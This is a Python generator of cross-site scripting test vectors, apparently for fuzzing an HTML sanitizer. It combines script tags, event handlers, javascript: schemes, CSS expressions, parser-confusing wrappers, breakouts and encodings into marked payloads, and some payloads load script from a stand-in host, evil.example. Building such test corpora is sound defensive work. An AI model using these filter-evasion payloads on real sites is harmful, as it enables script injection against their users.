"""Cross-site scripting vectors, made rather than copied: what starts a script x how it is written x what stands around.

    forms(html)      markup: event handlers, addresses, styles, elements, foreign content, broken markup
    breakouts(html)  what leaves the place where it is put: an attribute, a comment, a script, a style, a template
    text             what only looks like markup

Each has a word before and a word behind it, by which a judge sees what a reader would still be shown.
"""

import itertools
import random
from collections.abc import Iterator
from dataclasses import dataclass
from typing import Final

#: What a vector would do: a global variable that no page has, and a title that the judge in the browser looks for.
ACT: Final = "window.hacked=1"

_ELEMENTS: Final = (
    "img", "svg", "body", "input", "details", "video", "audio", "iframe", "object", "embed", "marquee", "a", "b", "p",
    "math", "form", "select", "button", "table", "style", "link", "meta", "base", "isindex", "keygen", "x-tag",
    "bgsound",
    "frameset", "template", "slot", "dialog", "animate", "set", "image", "use", "foreignObject",
)  # fmt: skip
_HANDLERS: Final = (
    "onerror", "onload", "onclick", "onfocus", "onmouseover", "ontoggle", "onstart", "onbegin", "onpageshow",
    "onscroll",
    "onanimationstart", "ontransitionend", "onpointerenter", "onbeforeinput", "oncopy", "onwheel", "onbeforetoggle",
    "onauxclick", "onsecuritypolicyviolation", "onscrollsnapchange",
)  # fmt: skip
_URL_ATTRIBUTES: Final = (
    ("a", "href"), ("area", "href"), ("iframe", "src"), ("form", "action"), ("button", "formaction"),
    ("object", "data"),
    ("embed", "src"), ("img", "src"), ("img", "srcset"), ("video", "poster"), ("body", "background"), ("link", "href"),
    ("base", "href"), ("use", "xlink:href"), ("blockquote", "cite"), ("del", "cite"), ("q", "cite"),
    ("meta", "content"),
    ("table", "background"), ("a", "ping"), ("input", "src"), ("math", "href"), ("script", "src"), ("a", "xml:base"),
)  # fmt: skip
_SCHEMES: Final = (
    "javascript:{act}", "JaVaScRiPt:{act}", "java\tscript:{act}", "java\nscript:{act}", "\x01javascript:{act}",
    "&#106;avascript:{act}", "&#x6A;avascript&colon;{act}", "javascript&#58;{act}", "java&Tab;script:{act}",
    "java&NewLine;script:{act}", " javascript:{act}", "vbscript:{act}", "data:text/html,<script>{act}</script>",
    "data:text/html;base64,PHNjcmlwdD53aW5kb3cuaGFja2VkPTE8L3NjcmlwdD4=", "view-source:javascript:{act}",
    "//evil.example/x.js", "\\\\evil.example\\x", "https:javascript:{act}", "http://ok.example@evil.example/\">{act}",
    "feed:javascript:{act}", "javascript://%0a{act}", "blob:null/1", "filesystem:null/1", "livescript:{act}",
    "mocha:{act}", "jar:javascript:{act}!/", "&#0000106avascript:{act}", "\u3000javascript:{act}",
    "jav\u200bascript:{act}",
    "javascript\uff1a{act}",
)  # fmt: skip
_QUOTES: Final = ("{}", "'{}'", '"{}"', "`{}`", "&quot;{}&quot;", "\u201c{}\u201d")
_GAPS: Final = (" ", "/", "\t", "\n", "\x0c", "\r", " / ", "\x00", "\u00a0", "/*x*/")
_STYLES: Final = (
    "background:url(javascript:{act})", "width:expression({act})", "-moz-binding:url(//evil.example/x#y)",
    "behavior:url(x.htc)", "@import '//evil.example/x.css'", "position:fixed;inset:0;z-index:9",
    "\\62 ackground:url(x)",
    "color:red;}}body{{display:none", "list-style:url(javascript:{act})", "background:\\75rl(javascript:{act})",
    "x:\\0065xpression({act})", "animation-name:x",
)  # fmt: skip
#: What changes how the parser reads what follows, with its own end.
_AROUND: Final = (
    "{}", "<div>{}</div>", "<svg>{}</svg>", "<math><mtext>{}</mtext></math>",
    "<svg><foreignObject>{}</foreignObject></svg>",
    "<svg><desc>{}</desc></svg>", "<math><annotation-xml encoding='text/html'>{}</annotation-xml></math>",
    "<table><tr><td>{}</td></tr></table>", "<table>{}</table>", "<select><option>{}</option></select>",
    "<noscript>{}</noscript>", "<noscript><p title=\"</noscript>{}\"></noscript>", "<textarea>{}</textarea>",
    "<title>{}</title>", "<style>{}</style>", "<xmp>{}</xmp>", "<noembed>{}</noembed>", "<template>{}</template>",
    "<!--{}-->", "<!--><p>{}</p>-->", "<!--!>{}<--!>", "<![CDATA[{}]]>", "<svg><![CDATA[<p>]]>{}</svg>",
    "<math><mi><table><mglyph><style><!--</style>{}--></mglyph></table></mi></math>",
    "<form><math><mtext></form><form><mglyph><style></math>{}</style></mglyph></mtext></math></form>",
    "<svg></p><style><a id=\"</style>{}\"></style></svg>", "<math></p><style><!--</style>{}--></style></math>",
    "<p><svg><title><p>{}</p></title></svg></p>", "<b><p><table><b><tr>{}</b></table></p></b>", "<a href=x>{}<a>",
    "<pre>\n{}</pre>", "<details open><summary>{}</summary></details>", "<o:p>{}</o:p>", "<?xml x {}?>",
    "<!DOCTYPE {}>",
    "<<p>{}</p>", "</{}>", "<p/{}>", "<ruby><rt>{}</rt></ruby>", "<dl><dt>{}</dl>", "<frameset>{}</frameset>",
    "<object>{}</object>", "<iframe srcdoc=\"{}\"></iframe>", "<video><source>{}</video>", "<center>{}</center>",
    "<p>{}<plaintext>", "<listing>{}</listing>", "<image src=x>{}</image>", "<svg><a xlink:href='#'>{}</a></svg>",
    "<svg><script>{}</script></svg>", "<math><maction actiontype='statusline'>{}</maction></math>",
)  # fmt: skip
_BREAKOUTS: Final = (
    '">{}', "'>{}", "`>{}", "</title>{}", "</textarea>{}", "</script>{}", "</style>{}", "-->{}", "--!>{}", "]]>{}",
    "</noscript>{}", "</template>{}", "</iframe>{}", "</svg>{}", "</math>{}", '" {} x="', "' {} x='", "\n{}", "\\\"{}",
    "\\'{}//", "</xmp>{}", "?>{}", "%>{}", "*/{}/*", "${{{}}}", "{{{{{}}}}}", "{{%{}%}}", "\u2028{}", "&quot;>{}",
    "&lt;/script&gt;{}", "\ufeff{}", "+ADw-{}+AD4-", "\u00bcscript\u00be{}", "</p></div></main></body></html>{}",
    "&#34;&#62;{}", "\x00\">{}", "\x1b[31m{}", "\u202e{}\u202c", "%22%3E{}", "\\u003c{}\\u003e",
)  # fmt: skip
_SCRIPTS: Final = (
    "<script>{act}</script>", "<ScRiPt>{act}</sCrIpT>", "<script >{act}</script\t\n>", "<script/x>{act}</script>",
    "<script src=//evil.example/x.js></script>", "<script>{act}", "<scr<script>ipt>{act}</scr</script>ipt>",
    "<script\x00>{act}</script>", "<\x00script>{act}</script>", "<script>/*</script>*/{act}</script>",
    "&lt;script&gt;{act}&lt;/script&gt;", "&#60;script&#62;{act}&#60;/script&#62;", "&amp;lt;script&amp;gt;{act}",
    "\uff1cscript\uff1e{act}\uff1c/script\uff1e", "<script type=module>{act}</script>", "<script>{act}<!--",
    "%3Cscript%3E{act}",
    "<svg><script>{act}</script></svg>", "<svg><script href='data:,{act}'/></svg>",
    "<script xmlns='urn:x'>{act}</script>",
    "\\x3cscript\\x3e{act}", "\\u003cscript\\u003e{act}", "<script>alert`1`</script>",
    "<s\u0000cript>{act}</s\u0000cript>",
)  # fmt: skip


@dataclass(frozen=True, slots=True)
class Vector:
    """One vector between its two words."""

    number: int
    html: str

    @property
    def before(self) -> str:
        """A word that every reader must still be shown."""
        return f"truoc{self.number:05}x"

    @property
    def behind(self) -> str:
        """A word behind it, which a browser may have taken into a comment or a script."""
        return f"sau{self.number:05}x"

    @property
    def text(self) -> str:
        """The vector as it is put somewhere."""
        return f"{self.before} {self.html} {self.behind}"


def made(count: int, chance: random.Random) -> list[Vector]:
    """So many different vectors: first each kind in its plainest form, then combinations drawn by `chance`."""
    found = dict.fromkeys(_plain())
    while len(found) < count:
        found[_drawn(chance)] = None
    return [Vector(number, html) for number, html in enumerate(itertools.islice(found, count))]


def _plain() -> Iterator[str]:
    """One of each piece; taken in turns, so that a short list has some of every kind."""
    kinds: list[list[str]] = [
        [each.format(act=ACT) for each in _SCRIPTS],
        [f"<{name} src=x onerror={ACT}>" for name in _ELEMENTS],
        [f"<img src=x {name}={ACT}>" for name in _HANDLERS],
        [f"<{name} {attribute}='javascript:{ACT}'>x</{name}>" for name, attribute in _URL_ATTRIBUTES],
        [f'<a href="{each.format(act=ACT)}">x</a>' for each in _SCHEMES],
        [f'<p style="{each.format(act=ACT)}">x</p>' for each in _STYLES],
        [around.format(f"<img src=x onerror={ACT}>") for around in _AROUND],
        [out.format(f"<img src=x onerror={ACT}>") for out in _BREAKOUTS],
        [f"<img{gap}src=x{gap}onerror={ACT}>" for gap in _GAPS],
    ]
    for turn in itertools.zip_longest(*kinds):
        yield from (each for each in turn if each is not None)


def _drawn(chance: random.Random) -> str:
    core = chance.choice((_handler, _address, _style, _script))(chance)
    if chance.random() < 0.7:
        core = chance.choice(_AROUND).format(core)
    if chance.random() < 0.3:
        core = chance.choice(_AROUND).format(core)
    if chance.random() < 0.4:
        core = chance.choice(_BREAKOUTS).format(core)
    return _bent(core, chance)


def _handler(chance: random.Random) -> str:
    element, gap = chance.choice(_ELEMENTS), chance.choice(_GAPS)
    value = chance.choice(_QUOTES).format(_encoded(ACT, chance))
    equals = chance.choice(("=", " = ", "=/**/"))
    return f"<{element}{gap}src=x{gap}{_cased(chance.choice(_HANDLERS), chance)}{equals}{value}>x"


def _address(chance: random.Random) -> str:
    element, attribute = chance.choice(_URL_ATTRIBUTES)
    value = chance.choice(_QUOTES).format(chance.choice(_SCHEMES).format(act=ACT))
    return f"<{element}{chance.choice(_GAPS)}{_cased(attribute, chance)}={value}>x</{element}>"


def _style(chance: random.Random) -> str:
    style = chance.choice(_STYLES).format(act=ACT)
    return chance.choice((f'<p style="{style}">x</p>', f"<style>p{{{style}}}</style>", f"<div STYLE='{style}'>x"))


def _script(chance: random.Random) -> str:
    return chance.choice(_SCRIPTS).format(act=ACT)


def _cased(text: str, chance: random.Random) -> str:
    return "".join(chance.choice((each, each.upper())) for each in text)


def _encoded(text: str, chance: random.Random) -> str:
    way = chance.randrange(5)
    forms = (text, "".join(f"&#{ord(c)};" for c in text), "".join(f"&#x{ord(c):x};" for c in text),
             "".join(f"\\u{ord(c):04x}" for c in text), "".join(f"&#{ord(c):07}" for c in text))  # fmt: skip
    return forms[way]


def _bent(html: str, chance: random.Random) -> str:
    """Now and then a piece lost, doubled or half-closed, as editors and filters of sites leave it."""
    for _ in range(chance.choice((0, 0, 1, 2))):
        at = chance.randrange(len(html) + 1)
        html = chance.choice((
            html[:at] + html[at + 1 :], html[:at] + "<" + html[at:], html[:at] + chance.choice('"\'>`\x00') + html[at:],
            html[: max(at, 5)], html + "</p></svg></math>", html[:at] + html[at : at + 6] * 2 + html[at + 6 :],
        ))  # fmt: skip
    return html
